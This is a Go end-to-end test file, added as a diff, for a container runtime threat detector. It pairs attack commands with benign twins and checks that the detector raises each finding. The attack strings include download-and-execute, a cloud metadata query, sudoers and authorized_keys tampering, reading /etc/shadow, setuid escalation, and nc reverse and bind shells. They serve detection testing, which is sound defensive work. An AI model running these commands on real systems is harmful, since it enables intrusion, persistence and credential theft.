@@ -1,0 +1,299 @@
+package e2e
+
+import (
+	"crypto/rand"
+	"encoding/hex"
+	"net"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+// attack is one finding type's real attack and its benign twin, each run
+// in its own container so the twin's silence is not masked.
+type attack struct {
+	typ, sev string
+	attack   string // shell script in the attack container
+	benign   string // shell script in the twin container ("" = none)
+	match    func(Finding) bool
+	check    func(t *testing.T, f Finding)
+}
+
+func runAttacks(t *testing.T, cases []attack) {
+	m := start(t)
+	for _, c := range cases {
+		t.Run(strings.NewReplacer(":", "_", "/", "_").Replace(c.typ), func(t *testing.T) {
+			id := attackContainer(t)
+			var twin string
+			if c.benign != "" {
+				twin = attackContainer(t)
+				Sh(t, twin, c.benign)
+			}
+			Sh(t, id, c.attack)
+			match := InContainer(id)
+			if c.match != nil {
+				match = and(match, c.match)
+			}
+			f := m.Wait(t, c.typ, match)
+			expect(t, f, c.sev, id)
+			if c.check != nil {
+				c.check(t, f)
+			}
+			if twin != "" {
+				m.None(t, c.typ, 0, InContainer(twin))
+			}
+		})
+	}
+}
+
+func ctxHas(t *testing.T, f Finding, key, want string) {
+	t.Helper()
+	if got := f.Str("service.runtimeDetails.context." + key); !strings.Contains(got, want) {
+		t.Errorf("%s: context.%s = %q, want it to contain %q", f.Str("type"), key, got, want)
+	}
+}
+
+func TestExecutionAttacks(t *testing.T) {
+	runAttacks(t, []attack{
+		{typ: "Execution:Runtime/NewBinaryExecuted", sev: "Medium",
+			attack: "cp /bin/busybox /tmp/echo && /tmp/echo dropped",
+			benign: "/bin/echo image-binary; ls /tmp",
+			check: func(t *testing.T, f Finding) {
+				ctxHas(t, f, "executablePath", "/tmp/echo")
+				if f.Str("service.runtimeDetails.process.executablePath") != "/tmp/echo" {
+					t.Errorf("process %s", f.Str("service.runtimeDetails.process.executablePath"))
+				}
+			}},
+		{typ: "Execution:Runtime/NewLibraryLoaded", sev: "Medium",
+			attack: "cp /bin/busybox /tmp/libevil.so && /t/actor mmap-exec /tmp/libevil.so",
+			benign: "/t/actor mmap-exec /bin/busybox",
+			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "libraryPath", "/tmp/libevil.so") }},
+		{typ: "DefenseEvasion:Runtime/FilelessExecution", sev: "Medium",
+			attack: "/t/actor memfd-exec /bin/busybox true",
+			benign: "/t/actor memfd x; /bin/true",
+			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "executablePath", "memfd:payload") }},
+		{typ: "Impact:Runtime/CryptoMinerExecuted", sev: "High",
+			attack: "/bin/echo -o stratum+tcp://pool.mamori.test:3333 -u wallet",
+			benign: "/bin/echo -o tcp://db.internal:5432",
+			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "commandLineExample", "stratum+tcp://") }},
+		{typ: "Execution:Runtime/SuspiciousTool", sev: "High",
+			attack: "cp /bin/busybox /tmp/nmap && /tmp/nmap -sS 127.0.0.1",
+			benign: "ls -la /; ps",
+			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "toolName", "nmap"); ctxHas(t, f, "toolCategory", "scanner") }},
+		{typ: "Execution:Runtime/SuspiciousCommand", sev: "Medium",
+			attack: "wget -q -O- http://127.0.0.1:1/install.sh | sh",
+			benign: "wget -q -O /tmp/page http://127.0.0.1:1/index.html; cat /etc/hostname",
+			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "technique", "download and execute") }},
+		{typ: "DefenseEvasion:Runtime/SuspiciousCommand", sev: "High",
+			attack: "iptables -F INPUT 2>/dev/null; true",
+			benign: "echo iptables is a word; true",
+			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "technique", "firewall disabled") }},
+		{typ: "Discovery:Runtime/SuspiciousCommand", sev: "Low",
+			attack: "wget -q -T 1 -O- http://169.254.169.254/latest/meta-data/iam/ 2>/dev/null; true",
+			benign: "wget -q -T 1 -O- http://127.0.0.1:1/health 2>/dev/null; true",
+			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "technique", "cloud metadata") }},
+		{typ: "Persistence:Runtime/SuspiciousCommand", sev: "Low",
+			attack: "echo '* * * * * /tmp/x' | crontab -",
+			benign: "crontab -l 2>/dev/null; true",
+			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "technique", "cron job installed") }},
+		{typ: "PrivilegeEscalation:Runtime/SuspiciousCommand", sev: "Low",
+			attack: "cp /bin/busybox /tmp/bb && chmod u+s /tmp/bb",
+			benign: "touch /tmp/f && chmod 644 /tmp/f",
+			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "technique", "setuid bit set") }},
+		{typ: "PrivilegeEscalation:Runtime/ElevationToRoot", sev: "Medium",
+			attack: "cp /bin/busybox /tmp/rootme && chmod 4755 /tmp/rootme && su nobody -s /bin/sh -c '/tmp/rootme true'",
+			benign: "su nobody -s /bin/sh -c '/bin/true'",
+			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "binaryPath", "/tmp/rootme") }},
+	})
+}
+
+func TestFileAttacks(t *testing.T) {
+	runAttacks(t, []attack{
+		{typ: "DefenseEvasion:Runtime/SensitiveFileModified", sev: "Medium",
+			attack: "echo log > /var/log/auth.log; : > /var/log/auth.log",
+			benign: "echo line >> /var/log/app.log",
+			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "filePath", "/var/log/auth.log") }},
+		{typ: "Persistence:Runtime/SensitiveFileModified", sev: "Medium",
+			attack: "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAA attacker' >> /root/.ssh/authorized_keys",
+			benign: "cat /etc/passwd >/dev/null; echo x > /root/notes.txt",
+			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "filePath", "/root/.ssh/authorized_keys") }},
+		{typ: "PrivilegeEscalation:Runtime/SensitiveFileModified", sev: "Medium",
+			attack: "echo 'nobody ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
+			benign: "cat /etc/group >/dev/null",
+			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "filePath", "/etc/sudoers") }},
+		{typ: "PrivilegeEscalation:Runtime/RuncContainerEscape", sev: "High",
+			attack: ": >> /usr/bin/runc",
+			benign: ": >> /usr/bin/runcible",
+			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "runcBinaryPath", "/usr/bin/runc") }},
+		{typ: "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified", sev: "High",
+			attack: "echo /tmp/payload > /sys/fs/cgroup/release_agent 2>/dev/null; true",
+			benign: "cat /sys/fs/cgroup/cgroup.controllers >/dev/null 2>&1; true",
+			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "releaseAgentPath", "release_agent") }},
+		{typ: "CredentialAccess:Runtime/SensitiveFileRead", sev: "Medium",
+			attack: "cat /etc/shadow >/dev/null",
+			benign: "cat /etc/passwd >/dev/null",
+			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "filePath", "/etc/shadow") }},
+		{typ: "Custom:Runtime/MarkerFileTouched", sev: "Medium",
+			attack: "echo x > /etc/mamori-e2e-marker",
+			benign: "cat /etc/mamori-e2e-marker 2>/dev/null; echo x > /etc/other-marker",
+			check: func(t *testing.T, f Finding) {
+				if f.Str("title") != "marker touched by sh" && !strings.HasPrefix(f.Str("title"), "marker touched by") {
+					t.Errorf("title %q", f.Str("title"))
+				}
+			}},
+	})
+}
+
+func TestPrivilegeAttacks(t *testing.T) {
+	runAttacks(t, []attack{
+		{typ: "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory", sev: "Medium",
+			attack: "mkdir -p /mnt/host && mount -t ext4 /dev/vda1 /mnt/host 2>/dev/null; true",
+			benign: "mkdir -p /mnt/x; ls /mnt",
+			check: func(t *testing.T, f Finding) {
+				ctxHas(t, f, "mountSource", "/dev/vda1")
+				ctxHas(t, f, "fileSystemType", "ext4")
+				if f.Str("service.runtimeDetails.context.result") == "success" {
+					t.Error("an unprivileged container's mount succeeded")
+				}
+			}},
+		{typ: "PrivilegeEscalation:Runtime/DockerSocketAccessed", sev: "Medium",
+			attack: "/t/actor connect-unix /var/run/docker.sock; true",
+			benign: "/t/actor connect-unix /tmp/app.sock; true",
+			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "socketPath", "/var/run/docker.sock") }},
+		{typ: "PrivilegeEscalation:Runtime/UserfaultfdUsage", sev: "Medium",
+			attack: "/t/actor userfaultfd; true",
+			benign: "/t/actor memfd scratch; true"},
+		{typ: "DefenseEvasion:Runtime/PtraceAntiDebugging", sev: "Low",
+			attack: "/t/actor ptrace-traceme; true",
+			benign: "/t/actor exit 0"},
+		{typ: "DefenseEvasion:Runtime/ProcessInjection.Ptrace", sev: "Medium",
+			attack: "sleep 30 & /t/actor ptrace-attach $!; kill $!",
+			benign: "sleep 30 & kill -0 $!; kill $!",
+			check: func(t *testing.T, f Finding) {
+				if f.Num("service.runtimeDetails.context.targetProcess.pid") == 0 {
+					t.Error("no target pid")
+				}
+			}},
+		{typ: "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite", sev: "High",
+			attack: "sleep 30 & /t/actor vm-writev $! 4096; kill $!",
+			benign: "sleep 30 & /t/actor vm-readv $! 4096; kill $!"},
+		{typ: "DefenseEvasion:Runtime/ProcessInjection.Proc", sev: "High",
+			attack: "sleep 30 & /t/actor proc-mem-write $!; kill $!",
+			benign: "sleep 30 & cat /proc/$!/status >/dev/null; kill $!",
+			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "filePath", "/mem") }},
+		{typ: "Discovery:Runtime/RawSocketCreated", sev: "Low",
+			attack: "/t/actor socket-packet; true",
+			benign: "/t/actor connect 127.0.0.1:1; true"},
+	})
+}
+
+// TestReverseShell: nc connects out and runs a shell on the socket; the
+// twin connects and sends a file.
+func TestReverseShell(t *testing.T) {
+	m := start(t)
+	l := listen(t)
+	id, twin := attackContainer(t), attackContainer(t)
+	Sh(t, twin, "echo hello | nc -w 1 127.0.0.1 "+port(l))
+	go Sh(t, id, "nc 127.0.0.1 "+port(l)+" -e /bin/sh")
+	f := m.Wait(t, "Execution:Runtime/ReverseShell", InContainer(id))
+	expect(t, f, "High", id)
+	m.None(t, "Execution:Runtime/ReverseShell", 0, InContainer(twin))
+}
+
+// TestSuspiciousShellCreated: a listening process hands an interactive
+// shell to whoever connects (a bind shell); the twin serves a file.
+func TestSuspiciousShellCreated(t *testing.T) {
+	m := start(t)
+	id, twin := attackContainer(t), attackContainer(t)
+	go Sh(t, id, "nc -l -p 19002 -e /bin/sh")
+	go Sh(t, twin, "nc -l -p 19003 -e /bin/cat /etc/hostname")
+	for _, p := range []string{"19002", "19003"} {
+		dialRetry(t, "127.0.0.1:"+p)
+	}
+	f := m.Wait(t, "Execution:Runtime/SuspiciousShellCreated", InContainer(id))
+	expect(t, f, "Low", id)
+	m.None(t, "Execution:Runtime/SuspiciousShellCreated", 0, InContainer(twin))
+}
+
+// TestMaliciousFileExecuted lists a payload's hash as malware (and
+// another's on a custom list), then runs both long enough to be hashed.
+func TestMaliciousFileExecuted(t *testing.T) {
+	m := start(t)
+	id := attackContainer(t)
+	salt := randHex(t)
+	out := Sh(t, id, "cp /bin/busybox /tmp/sleep && echo "+salt+" >> /tmp/sleep && "+
+		"cp /bin/busybox /tmp/usleep && echo custom"+salt+" >> /tmp/usleep && sha256sum /tmp/sleep /tmp/usleep")
+	sums := strings.Fields(out)
+	if len(sums) < 4 {
+		t.Fatalf("sha256sum: %q", out)
+	}
+	intel := filepath.Join(m.dir, "intel")
+	if err := os.WriteFile(filepath.Join(intel, "malware-"+salt+".txt"), []byte(sums[0]+"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(intel, "malware-custom-"+salt+".txt"), []byte(sums[2]+"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	time.Sleep(3 * time.Second) // the agent polls its intel directory every 2s
+	Sh(t, id, "/tmp/sleep 2; /tmp/usleep 2000000")
+	f := m.Wait(t, "Execution:Runtime/MaliciousFileExecuted", InContainer(id))
+	expect(t, f, "High", id)
+	ctxHas(t, f, "threatFileSha256", sums[0])
+	g := m.Wait(t, "Execution:Runtime/MaliciousFileExecuted.Custom", InContainer(id))
+	ctxHas(t, g, "threatFileSha256", sums[2])
+	// The image's own busybox is not listed.
+	m.None(t, "Execution:Runtime/MaliciousFileExecuted", 0, and(InContainer(id), ctxIs("threatFilePath", "/bin/busybox")))
+}
+
+func listen(t *testing.T) net.Listener {
+	t.Helper()
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { l.Close() })
+	go func() {
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				return
+			}
+			go func() {
+				c.Write([]byte("exit\n"))
+				time.Sleep(2 * time.Second)
+				c.Close()
+			}()
+		}
+	}()
+	return l
+}
+
+func port(l net.Listener) string {
+	_, p, _ := net.SplitHostPort(l.Addr().String())
+	return p
+}
+
+func dialRetry(t *testing.T, addr string) {
+	t.Helper()
+	deadline := time.Now().Add(5 * time.Second)
+	for time.Now().Before(deadline) {
+		if c, err := net.DialTimeout("tcp", addr, time.Second); err == nil {
+			c.Write([]byte("exit\n"))
+			time.Sleep(300 * time.Millisecond)
+			c.Close()
+			return
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	t.Fatalf("nothing listens on %s", addr)
+}
+
+func randHex(t *testing.T) string {
+	b := make([]byte, 6)
+	if _, err := rand.Read(b); err != nil {
+		t.Fatal(err)
+	}
+	return hex.EncodeToString(b)
+}
